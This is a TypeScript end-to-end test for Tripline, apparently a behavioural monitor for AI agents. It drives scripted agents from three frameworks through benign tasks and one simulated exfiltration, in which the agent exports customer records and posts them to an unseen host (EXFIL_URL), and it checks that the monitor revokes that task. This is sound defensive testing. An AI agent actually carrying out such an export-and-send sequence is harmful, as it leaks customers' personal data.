/**
 * Three more agent frameworks, each instrumented the way its users instrument it, against Tripline started as
 * `npm start` does (for the guide "Agents you already have"):
 *
 * - OpenAI Agents SDK (Python): the SDK's own tracing bridged to OpenTelemetry by
 *   openinference-instrumentation-openai-agents; the SDK's scripted test model (`agents.testing.ScriptedModel`);
 * - CrewAI (Python): openinference-instrumentation-crewai; a scripted `crewai.BaseLLM` with native tool calls;
 * - Vercel AI SDK (TypeScript): `generateText` with `ai` 7's OpenTelemetry integration (`@ai-sdk/otel`) and
 *   `MockLanguageModelV4` from `ai/test`.
 *
 * No network, no weights; each agent exports OTLP/HTTP protobuf with the agent token and sets no Tripline attribute
 * on a framework's span. Mode `wrapper`: the run is wrapped in a span of the script's own tracer with
 * `tripline.task.id` / `tripline.task.type` (the task is found by that id). Mode `trace`: no task id anywhere, the
 * task type a resource attribute; the trace is the task (found by its trace id). The Python frameworks come from
 * PyPI (test/agents/python/<framework>/requirements.txt, venvs made by test/agents/python/venv.sh).
 *
 * For each framework and mode, with a task type of its own: 25 benign warm-up tasks, then a few benign tasks and a
 * novel-tool exfiltration (export the customers, then `http_post` to a host the type never saw, a tool it never
 * used). Expected: the type reaches its baseline, the exfiltration is revoked, every benign task completes.
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TEST_AGENT_TOKEN, TEST_AUTH_ENV } from '../helpers/auth.ts';
import { pythonFor, runPythonAgent } from '../helpers/python.ts';
import { startTriplineProcess } from '../helpers/tripline-process.ts';
import type { TriplineProcess } from '../helpers/tripline-process.ts';
import { waitFor } from '../helpers/wait.ts';
import { EXFIL_URL, VERDICT_MS, baselineView, benignCalls, rng, taskView } from '../helpers/agent-plans.ts';
import type { BaselineView, Call, PlannedTask as Plan, TaskView } from '../helpers/agent-plans.ts';

const run = promisify(execFile);
const VERCEL_AGENT = fileURLToPath(new URL('../agents/typescript/vercel-ai-agent.ts', import.meta.url));

type Mode = 'wrapper' | 'trace';
type Label = 'benign' | 'exfiltration';

interface Suite {
  name: string;
  /** The venv folder of a Python framework, or undefined for the TypeScript agent. */
  python?: 'openai_agents' | 'crewai';
  mode: Mode;
  taskType: string;
}

const SUITES: Suite[] = [
  { name: 'OpenAI Agents SDK', python: 'openai_agents', mode: 'wrapper', taskType: 'refund_openai_agents_wrapper' },
  { name: 'CrewAI', python: 'crewai', mode: 'trace', taskType: 'refund_crewai_trace' },
  { name: 'Vercel AI SDK', mode: 'wrapper', taskType: 'refund_vercel_ai_wrapper' },
  { name: 'Vercel AI SDK', mode: 'trace', taskType: 'refund_vercel_ai_trace' },
];

const WARMUP_TASKS = 20;
const WARMUP_RUN = 25;
const MIXED_BENIGN = 4;
type PlannedTask = Plan<Label>;

/** One line of an agent's stdout: the task it ran and the trace it ran in (plus how many tools it planned). */
interface RanTask {
  label: Label;
  taskId: string | null;
  traceId: string;
  calls: number;
}

function exfiltrationCalls(): Call[] {
  return [
    { tool: 'export_customers', args: { limit: 50 } },
    { tool: 'http_post', args: { url: EXFIL_URL, body: 'id,name,email\n1,Customer 1,customer1@shop.example\n...' } },
  ];
}

describe('more real agents (OpenAI Agents SDK, CrewAI, Vercel AI SDK) against Tripline', () => {
  const dataDir = mkdtempSync(join(tmpdir(), 'tripline-e2e-more-'));
  const workDir = mkdtempSync(join(tmpdir(), 'tripline-e2e-more-plans-'));
  const runId = Date.now().toString(36);
  let tripline: TriplineProcess;

  beforeAll(async () => {
    // The first run installs each Python framework from PyPI (CrewAI takes a minute and a half); later runs reuse
    // the cached venvs.
    await Promise.all(['openai_agents', 'crewai'].map((framework) => pythonFor(framework)));
    tripline = await startTriplineProcess({
      ...TEST_AUTH_ENV,
      TRIPLINE_DATA_DIR: dataDir,
      TRIPLINE_WARMUP_TASKS: String(WARMUP_TASKS),
      LOG_LEVEL: 'warn',
    });
  }, 20 * 60_000);

  afterAll(async () => {
    await tripline.stop();
    rmSync(dataDir, { recursive: true, force: true });
    rmSync(workDir, { recursive: true, force: true });
  });

  const task = (id: string): Promise<TaskView | undefined> => taskView(tripline.apiUrl, id);
  const baseline = (taskType: string): Promise<BaselineView | undefined> => baselineView(tripline.apiUrl, taskType);

  /** Runs one agent process over `plan`; returns what it ran, in order. */
  async function runAgent(suite: Suite, phase: string, plan: PlannedTask[]): Promise<RanTask[]> {
    const planFile = join(workDir, `${suite.taskType}-${phase}.json`);
    writeFileSync(planFile, JSON.stringify(plan));
    const args = [
      '--endpoint',
      tripline.otlpUrl,
      '--token',
      TEST_AGENT_TOKEN,
      '--plan',
      planFile,
      '--mode',
      suite.mode,
    ];
    let stdout: string;
    if (suite.python === undefined) {
      try {
        ({ stdout } = await run(process.execPath, [VERCEL_AGENT, ...args], {
          maxBuffer: 64 * 1024 * 1024,
          timeout: 300_000,
        }));
      } catch (error) {
        const failure = error as { stderr?: string; message: string };
        throw new Error(`vercel-ai-agent.ts failed: ${failure.message}\n${failure.stderr ?? ''}`, { cause: error });
      }
    } else {
      // CrewAI writes a SQLite file of task outputs, a key and settings under the home directory (some paths
      // hard-coded, not XDG): a home of the test's own.
      ({ stdout } = await runPythonAgent(suite.python, 'agent.py', args, { HOME: join(workDir, 'home') }, 300_000));
    }
    const ran = stdout
      .split('\n')
      .filter((line) => line.startsWith('{'))
      .map((line, index) => ({
        ...(JSON.parse(line) as Omit<RanTask, 'calls'>),
        calls: plan[index]?.calls.length ?? -1,
      }));
    expect(ran.map((entry) => entry.label)).toEqual(plan.map((entry) => entry.label));
    for (const [index, entry] of ran.entries()) {
      expect(entry.traceId).toMatch(/^[0-9a-f]{32}$/);
      expect(entry.taskId).toBe(suite.mode === 'wrapper' ? plan[index]?.taskId : null);
    }
    return ran;
  }

  for (const [index, suite] of SUITES.entries()) {
    describe(`${suite.name}, ${suite.mode} mode`, () => {
      const { taskType, mode } = suite;
      const next = rng(1000 + index);
      let counter = 0;
      const planned = (label: Label, calls: Call[]): PlannedTask => ({
        label,
        taskType,
        taskId: mode === 'wrapper' ? `${taskType}-${label}-${String(++counter)}-${runId}` : null,
        calls,
      });
      /** The id Tripline knows a task by: the declared one, or the trace's. */
      const idOf = (entry: RanTask): string => entry.taskId ?? entry.traceId;
      let warmup: RanTask[] = [];
      let mixed: RanTask[] = [];
      const mixedOf = (label: Label): RanTask[] => mixed.filter((entry) => entry.label === label);

      it(
        `runs ${String(WARMUP_RUN)} benign warm-up tasks and the type reaches its baseline`,
        async () => {
          const plan = Array.from({ length: WARMUP_RUN }, () => planned('benign', benignCalls(next)));
          warmup = await runAgent(suite, 'warmup', plan);
          let last: BaselineView | undefined;
          try {
            await waitFor(
              `the baseline of ${taskType} to be learned from ${String(WARMUP_TASKS)} tasks`,
              async () => {
                last = await baseline(taskType);
                return last !== undefined && last.tasks >= WARMUP_TASKS;
              },
              VERDICT_MS,
              250,
            );
          } catch (error) {
            const first = warmup[0];
            const seen = first === undefined ? undefined : await task(idOf(first));
            throw new Error(
              `${(error as Error).message}; baseline: ${last === undefined ? '404' : JSON.stringify(last)}; first warm-up task ${first === undefined ? '' : idOf(first)}: ${seen === undefined ? '404' : JSON.stringify(seen)}`,
              { cause: error },
            );
          }
          expect(last?.regime).toBe('type_baseline');
        },
        10 * 60_000,
      );

      it(
        'runs a mixed phase: benign tasks and a novel-tool exfiltration',
        async () => {
          const plan = Array.from({ length: MIXED_BENIGN }, () => planned('benign', benignCalls(next)));
          plan.splice(2, 0, planned('exfiltration', exfiltrationCalls()));
          mixed = await runAgent(suite, 'mixed', plan);
          expect(mixed).toHaveLength(MIXED_BENIGN + 1);
        },
        10 * 60_000,
      );

      it(
        'scores the mixed phase under the type baseline',
        async () => {
          const first = mixed[0];
          expect(first, 'the mixed phase ran').toBeDefined();
          if (first === undefined) return;
          const view = await waitFor(`task ${idOf(first)} to be known`, () => task(idOf(first)), VERDICT_MS, 250);
          expect(view.detector.regime, JSON.stringify(view)).toBe('type_baseline');
        },
        2 * 60_000,
      );

      it(
        'revokes the novel-tool exfiltration',
        async () => {
          const [attack] = mixedOf('exfiltration');
          expect(attack, 'the mixed phase ran').toBeDefined();
          if (attack === undefined) return;
          let last: TaskView | undefined;
          try {
            await waitFor(
              `task ${idOf(attack)} (exfiltration) to be revoked`,
              async () => {
                last = await task(idOf(attack));
                return last?.status === 'revoked';
              },
              VERDICT_MS,
              250,
            );
          } catch (error) {
            throw new Error(
              `${(error as Error).message}; last seen: ${last === undefined ? 'unknown to Tripline (404)' : JSON.stringify(last)}`,
              { cause: error },
            );
          }
        },
        2 * 60_000,
      );

      it(
        'completes every benign task with each of its tool calls counted, and revokes none',
        async () => {
          const benign = [...warmup, ...mixedOf('benign')];
          expect(benign.length, 'the warm-up and the mixed phase ran').toBe(WARMUP_RUN + MIXED_BENIGN);
          const views = new Map<string, TaskView | undefined>();
          const settled = (entry: RanTask): boolean => {
            const status = views.get(idOf(entry))?.status;
            return status === 'completed' || status === 'revoked';
          };
          try {
            await waitFor(
              `all ${String(benign.length)} benign tasks of ${taskType} to complete`,
              async () => {
                for (const entry of benign) if (!settled(entry)) views.set(idOf(entry), await task(idOf(entry)));
                return benign.every(settled);
              },
              VERDICT_MS,
              500,
            );
          } catch (error) {
            const pending = benign
              .filter((entry) => !settled(entry))
              .map((entry) => `${idOf(entry)}: ${JSON.stringify(views.get(idOf(entry)) ?? '404')}`);
            throw new Error(
              `${(error as Error).message}; not completed (${String(pending.length)}): ${pending.slice(0, 3).join('; ')}`,
              { cause: error },
            );
          }
          const revoked = benign.filter((entry) => views.get(idOf(entry))?.status === 'revoked');
          expect(
            revoked.map((entry) => JSON.stringify(views.get(idOf(entry)))),
            'benign tasks revoked',
          ).toEqual([]);
          // Completed is not enough: a task whose framework spans went elsewhere completes empty.
          const miscounted = benign.filter((entry) => views.get(idOf(entry))?.counts.tool_call !== entry.calls);
          expect(
            miscounted
              .slice(0, 3)
              .map(
                (entry) =>
                  `${idOf(entry)}: planned ${String(entry.calls)} tool calls, counted ${JSON.stringify(views.get(idOf(entry))?.counts)}`,
              ),
            `benign tasks whose tool calls were not all counted (${String(miscounted.length)} of ${String(benign.length)})`,
          ).toEqual([]);
        },
        2 * 60_000,
      );
    });
  }
});
